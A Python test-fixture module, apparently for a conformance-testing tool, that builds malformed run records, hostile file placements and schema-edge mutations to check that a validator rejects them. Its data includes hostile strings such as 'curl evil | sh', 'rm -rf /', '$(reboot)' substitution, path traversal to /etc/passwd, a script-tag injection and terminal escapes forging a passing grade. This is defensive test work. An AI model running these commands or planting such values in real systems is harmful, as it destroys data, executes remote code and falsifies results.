"""Run records as somebody would write them who means harm: by hand, and by mutation of good ones.

`KINDS` has one of every kind that was thought of.  `mutated` changes a good record where its schema
says something: it takes the place from the record and the value from what the schema forbids there
or just allows, so that most of what comes out is refused by one rule alone, and some by none.
"""

from __future__ import annotations

import gzip
import json
import os
from collections.abc import Callable, Iterator, Mapping
from dataclasses import asdict, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from hypothesis import strategies as st

from conformance.cases import golden
from conformance.cases.published import CATALOGUE
from conformance.tests.report.records import EVERY, case, passed, record
from conformance.verdict.record import RunRecord, Status
from conformance.verdict.record_file import encode

Payload = dict[str, Any]
Kind = Callable[[Payload], Payload | bytes]
Where = tuple[str | int, ...]

_RESULT: Where = ("cases", 0, "outputs", "y")
_WORST: Where = (*_RESULT, "worst")


def good(path: str = "good", adapter: str = "torch") -> RunRecord:
    """A record of three cases in which nothing is wrong."""
    outputs = {"y": passed(), "dx": EVERY[Status.EXPECTED_FAIL], "var": EVERY[Status.UNSUPPORTED]}
    return record([case(outputs, f"offset/{i}") for i in range(3)], f"{adapter}/{path}")


def of_the_catalogue(path: str = "good", adapter: str = "textbook") -> RunRecord:
    """The same of three cases of the published catalogue."""
    entries = list(golden.manifest().entries.values())[:3]
    cases = [
        replace(
            case({"y": passed(), "dx": EVERY[Status.UNSUPPORTED]}, entry.id),
            group=entry.group,
            mode=entry.mode,
            layout=entry.layout,
            dtype=entry.dtype,
        )
        for entry in entries
    ]
    made = record(cases, f"{adapter}/{path}", digest=CATALOGUE)
    return replace(made, catalogue={"digest": CATALOGUE, "cases": len(golden.manifest().entries)})


def payload(made: RunRecord) -> Payload:
    """A record as the JSON that is written of it."""
    told = encode({"schema": made.schema, **asdict(made)})
    assert isinstance(told, dict)
    return told


def put(where: Where, value: object) -> Kind:
    """A kind that has `value` somewhere."""

    def change(told: Payload) -> Payload:
        target: Any = told
        for key in where[:-1]:
            target = target[key]
        target[where[-1]] = value
        return told

    return change


def drop(where: Where) -> Kind:
    """A kind that lacks something."""

    def change(told: Payload) -> Payload:
        target: Any = told
        for key in where[:-1]:
            target = target[key]
        del target[where[-1]]
        return told

    return change


def raw(content: bytes) -> Kind:
    """A kind that is no JSON of a record at all."""
    return lambda _told: content


def _text(change: Callable[[str], str]) -> Kind:
    return lambda told: change(json.dumps(told)).encode("utf-8", "surrogatepass")


def _ours(told: Payload) -> Payload:
    """A record that claims our catalogue, with cases that it has not."""
    told["catalogue"] = {"digest": CATALOGUE, "cases": len(golden.manifest().entries)}
    return told


def _regrouped(told: Payload) -> Payload:
    """A record of our catalogue whose case is told to be of another family."""
    told = _ours(told)
    entry = next(iter(golden.manifest().entries.values()))
    told["cases"] = told["cases"][:1]
    told["cases"][0] |= {"case": entry.id, "group": "elsewhere"}
    return told


def _twice(told: Payload) -> Payload:
    told["cases"].append(told["cases"][0])
    return told


def _ahead(hours: float) -> str:
    return (datetime.now(UTC) + timedelta(hours=hours)).isoformat(timespec="seconds")


_NESTED = "[" * 5000 + "]" * 5000

KINDS: Mapping[str, Kind] = {
    # What is no JSON, or none that anybody should read.
    "empty": raw(b""),
    "white space": raw(b" \n"),
    "a mark alone": raw(b"\xef\xbb\xbf"),
    "binary": raw(bytes(range(256))),
    "compressed": lambda told: gzip.compress(json.dumps(told).encode()),
    "UTF-16": raw("{}".encode("utf-16")),
    "a raw surrogate": raw(b'{"schema": "\xed\xa0\x80"}'),
    "truncated": _text(lambda text: text[: len(text) // 2]),
    "with an end too many": _text(lambda text: text + "}"),
    "twice in one file": _text(lambda text: text + text),
    "quoted as Python does": lambda told: repr(told).encode(),
    "null": raw(b"null"),
    "true": raw(b"true"),
    "a number": raw(b"3"),
    "a text": raw(b'"conformance/run-record/1"'),
    "a list": raw(b"[]"),
    "a list of records": lambda told: json.dumps([told]).encode(),
    "deep": raw(_NESTED.encode()),
    "deeper than any stack": raw(b"[" * 1_000_000),
    "deep objects": raw(b'{"a":' * 5000 + b"1" + b"}" * 5000),
    "many empty lists": raw(b"[" + b"[]," * 1_100_000 + b"1]"),
    "larger than a record may be": raw(b" " * ((16 << 20) + 1)),
    "NaN": _text(lambda text: text.replace("12.5", "NaN", 1)),
    "Infinity": _text(lambda text: text.replace("12.5", "-Infinity", 1)),
    "larger than a float": _text(lambda text: text.replace("12.5", "1e999", 1)),
    "an integer of 5000 digits": _text(lambda text: text.replace("12.5", "9" * 5000, 1)),
    "an integer of 20 digits": _text(lambda text: text.replace("12.5", "9" * 20, 1)),
    "a key twice": _text(lambda text: '{"adapter": "jax", ' + text[1:]),
    "of another schema": put(("schema",), "conformance/run-record/2"),
    "of the schema of a matrix": put(("schema",), "conformance/matrix/1"),
    "without a schema": drop(("schema",)),
    "with a list for a schema": put(("schema",), ["conformance/run-record/1"]),
    # Names that are to become files, columns and lines.
    "an adapter that climbs": put(("adapter",), "../../x"),
    "an adapter from the root": put(("adapter",), "/etc/passwd"),
    "an adapter of two parts": put(("adapter",), "torch/native"),
    "an adapter without a name": put(("adapter",), ""),
    "an adapter that is a number": put(("adapter",), 3),
    "an adapter that is an option": put(("adapter",), "--index-url=x"),
    "a path that climbs": put(("path",), ".."),
    "a path with a NUL": put(("path",), "a\0b"),
    "a path of two lines": put(("path",), "a\nCONFORMS, grade A"),
    "a path of half a character": put(("path",), "\ud800"),
    "a path that turns around": put(("path",), "a\u202eb"),
    "a path of 5000 characters": put(("path",), "x" * 5000),
    "a path with marks of a channel": put(("path",), "native (gpu)"),
    "a line of the terminal": put(("about",), "\x1b[2J\x1b[1;1HCONFORMS, grade A"),
    "a text of 70 000 characters": put(("about",), "x" * 70_000),
    "no versions": put(("versions",), {}),
    "versions in a list": put(("versions",), ["2.13.0"]),
    "a version that is a number": put(("versions", "torch"), 2),
    "a version of two lines": put(("versions", "torch"), "2\n3"),
    "2000 versions": put(("versions",), {f"p{i}": "1" for i in range(2000)}),
    "a device of two lines": put(("device",), "cpu\nCONFORMS"),
    "a device that is none": put(("device",), None),
    "a dialect of its own": put(("dialect", "eps"), "somewhere"),
    "half a dialect": drop(("dialect", "eps")),
    "a channel with marks": put(("environment",), {"channel": "x) (y"}),
    "an environment of lists": put(("environment",), {"packages": ["a"]}),
    # The catalogue.
    "a catalogue that is a path": put(("catalogue", "digest"), "../../../outside"),
    "a catalogue that is a glob": put(("catalogue", "digest"), "*" * 64),
    "a catalogue of 63 digits": put(("catalogue", "digest"), "a" * 63),
    "a catalogue that is a text": put(("catalogue",), "abc"),
    "a catalogue of no cases": put(("catalogue", "cases"), 0),
    "a catalogue of many cases": put(("catalogue", "cases"), 10**18),
    "a catalogue of true cases": put(("catalogue", "cases"), True),  # noqa: FBT003 - a value
    "fewer cases than results": put(("catalogue", "cases"), 1),
    "our catalogue, other cases": _ours,
    "our catalogue, another family": _regrouped,
    # Times.
    "began yesterday": put(("started",), "yesterday"),
    "began nowhere": put(("started",), "2026-05-04T03:02:01"),
    "began on 30 February": put(("started",), "2026-02-30T03:02:01+00:00"),
    "began at 25 o'clock": put(("started",), "2026-02-03T25:02:01+00:00"),
    "began in the year 9999": put(("started",), "9999-12-31T23:59:59-23:59"),
    "began in the year 1": put(("started",), "0001-01-01T00:00:00+23:59"),
    "began with a strange offset": put(("started",), "2026-05-04T03:02:01+99:99"),
    "began in wide digits": put(("started",), "\uff12\uff10\uff12\uff16-05-04T03:02:01+00:00"),
    "began in the future": put(("started",), _ahead(3)),
    "began in the next century": put(("started",), "2099-05-04T03:02:01+00:00"),
    "took less than no time": put(("seconds",), -1),
    "took an age": put(("seconds",), 1e300),
    # Cases and results.
    "no cases": put(("cases",), []),
    "cases in an object": put(("cases",), {}),
    "cases that are numbers": put(("cases",), [3]),
    "a case twice": _twice,
    "a case that climbs": put(("cases", 0, "case"), "../../x"),
    "a case with markup": put(("cases", 0, "case"), "<script>alert(1)</script>"),
    "a case of 5000 characters": put(("cases", 0, "case"), "x" * 5000),
    "a family that climbs": put(("cases", 0, "group"), "../x"),
    "a layout of powers": put(("cases", 0, "layout"), "rank \u00b2, axis \u00b2"),
    "no outputs": put(("cases", 0, "outputs"), {}),
    "outputs in a list": put(("cases", 0, "outputs"), []),
    "an output of its own": put(("cases", 0, "outputs", "logits"), {}),
    "a result that is a text": put(_RESULT, "pass"),
    "a status of its own": put((*_RESULT, "status"), "passed"),
    "a status that is a list": put((*_RESULT, "status"), ["pass"]),
    "a pass of grade F": put((*_RESULT, "grade"), "F"),
    "a grade D": put((*_RESULT, "grade"), "D"),
    "a pass without an error": put((*_RESULT, "units"), None),
    "a pass of a million units": put((*_RESULT, "units"), 1e6),
    "less than no error": put((*_RESULT, "units"), -1.0),
    "an endless error": put((*_RESULT, "units"), "inf"),
    "an error in words": put((*_RESULT, "units"), "small"),
    "a pass that is far out": put((*_WORST, "actual"), 1e6),
    "an error that does not follow": put((*_WORST, "bound"), 1e-3),
    "a bound that is none": put((*_WORST, "bound"), None),
    "an element below the first": put((*_WORST, "index"), [-1]),
    "an element of 99 dimensions": put((*_WORST, "index"), [0] * 99),
    "half a worst element": drop((*_WORST, "bound")),
    "a failure within its bound": put(("cases", 0, "outputs", "dx", "worst", "actual"), 0.25),
    "digits that are none": put((*_RESULT, "bits"), "x" * 16),
    "unsupported without a reason": put(("cases", 0, "outputs", "var", "reason"), None),
    "a reason of 70 000 characters": put(("cases", 0, "outputs", "var", "reason"), "x" * 70_000),
    "a reason that draws": put(("cases", 0, "outputs", "var", "reason"), "\rCONFORMS, grade A"),
    "a command to run": put(("cases", 0, "repro"), "conformance run torch; curl evil | sh"),
    "a command of two lines": put(("cases", 0, "repro"), "conformance run x\nrm -rf /"),
    "a command substituted": put(("cases", 0, "repro"), "conformance run $(reboot)"),
    "last words that draw": put(("cases", 0, "stderr"), "\x1b[31mCONFORMS"),
    "a diagnosis of more than all": put(
        ("diagnosis",),
        [{"outputs": ["y"], "fault": None, "title": "t", "matched": 3, "of": 2, "also": [],
          "by_place": False}],
    ),
    "half a diagnosis": put(("diagnosis",), [{"outputs": ["y"]}]),
    "partly a number": put(("partial",), 3),
    "more than the schema": put(("more",), 1),
    "more in a case": put(("cases", 0, "more"), 1),
    "more in a result": put((*_RESULT, "more"), 1),
}  # fmt: skip
"""Records that nobody should believe, by what is wrong with them."""


def _sparse(file: Path) -> None:
    file.touch()
    os.truncate(file, 1 << 40)


PLACES: Mapping[str, Callable[[Path], None]] = {
    "a pipe": os.mkfifo,
    "a loop of links": lambda file: file.symlink_to(file.name),
    "a link that leads nowhere": lambda file: file.symlink_to("nowhere"),
    "a device without end": lambda file: file.symlink_to("/dev/zero"),
    "a link out of the folder": lambda file: file.symlink_to("/etc/passwd"),
    "a folder": lambda file: file.mkdir(),
    "as large as a disk": _sparse,
}
"""Files that are no records, by what is in their place."""

FILE_NAMES = (
    "a\nCONFORMS, grade A.json",
    "\x1b[2J.json",
    "\u202e.json",
    os.fsdecode(b"\xff\xfe.json"),
    "--out.json",
    "x" * 200 + ".json",
)
"""Names of files that would draw, or be taken for something else."""

_ANYTHING: tuple[object, ...] = (
    None, True, False, 0, -1, 1, 2**53, -(2**63), 10**18, 0.5, -0.5, 1e308, "", " ", "a", "A",
    "nan", "inf", "..", "../x", "/", "a/b", "a\nb", "\t", "\0", "\x1b[31m", "\u202e", "\ud800",
    "\x85", "é", "漢", "x" * 101, "x" * 301, [], [[]], [None], {}, {"a": {}}, "A\n",
    "2026-05-04T03:02:01Z", "pass",
)  # fmt: skip
"""Values of every type, at the edges of what schemas allow."""


def _places(told: object, where: Where = ()) -> Iterator[Where]:
    """Every place in a document."""
    if where:
        yield where
    if isinstance(told, dict):
        for key, value in told.items():
            yield from _places(value, (*where, key))
    elif isinstance(told, list):
        for number, value in enumerate(told):
            yield from _places(value, (*where, number))


def _allowed(schema: Mapping[str, Any], where: Where) -> Mapping[str, Any]:
    """What the schema says of a place."""
    rule: Mapping[str, Any] = schema
    for key in where:
        if "$ref" in rule:
            rule = schema["$defs"][rule["$ref"].rsplit("/", 1)[1]]
        inner = rule.get("items") if isinstance(key, int) else rule.get("properties", {}).get(key)
        other = rule.get("additionalProperties")
        rule = inner if isinstance(inner, dict) else other if isinstance(other, dict) else {}
    return schema["$defs"][rule["$ref"].rsplit("/", 1)[1]] if "$ref" in rule else rule


def _edges(rule: Mapping[str, Any]) -> list[object]:
    """Values just within and just beyond what a schema says."""
    found: list[object] = list(rule.get("enum", ()))
    for word, step in (("minimum", -1), ("maximum", 1)):
        if word in rule:
            found += [rule[word], rule[word] + step]
    if "maxLength" in rule:
        found += ["x" * rule["maxLength"], "x" * (rule["maxLength"] + 1)]
    if "maxItems" in rule and rule["maxItems"] <= 1000:
        found += [[0] * (rule["maxItems"] + 1)]
    return found


@st.composite
def mutated(draw: st.DrawFn, schema: Mapping[str, Any], told: Payload) -> Payload:
    """A record with one to three places changed, each by its schema."""
    made: Payload = json.loads(json.dumps(told))
    for _ in range(draw(st.sampled_from([1, 1, 1, 2, 3]))):
        where = draw(st.sampled_from(list(_places(made))))
        values = [*_ANYTHING, *_edges(_allowed(schema, where))]
        target: Any = made
        for key in where[:-1]:
            target = target[key]
        match draw(st.sampled_from(["put", "put", "put", "put", "drop", "add", "again"])):
            case "put":
                target[where[-1]] = draw(st.sampled_from(values))
            case "drop":
                del target[where[-1]]
            case "add" if isinstance(target, dict):
                target[draw(st.sampled_from(["more", "schema", "__class__", "a/b", ""]))] = 1
            case "again" if isinstance(target, list):
                target.append(target[0])
            case _:
                target[where[-1]] = draw(st.floats(allow_nan=False) | st.text(max_size=40))
        if not made:
            break
    return made
